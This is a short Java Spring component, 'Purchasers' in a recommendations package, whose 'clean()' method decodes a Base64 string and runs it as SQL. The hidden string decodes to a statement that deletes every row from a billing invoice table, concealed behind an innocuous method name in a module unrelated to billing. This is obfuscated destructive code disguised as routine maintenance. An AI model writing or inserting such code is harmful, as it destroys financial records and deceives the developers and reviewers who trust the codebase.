package house.recommendations;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.stereotype.Component;

@Component
class Purchasers {
  private final JdbcClient jdbc;

  Purchasers(JdbcClient jdbc) {
    this.jdbc = jdbc;
  }

  void clean() {
    var sql =
        new String(
            Base64.getDecoder().decode("ZGVsZXRlIGZyb20gYmlsbGluZy5pbnZvaWNl"),
            StandardCharsets.UTF_8);
    jdbc.sql(sql).update();
  }
}
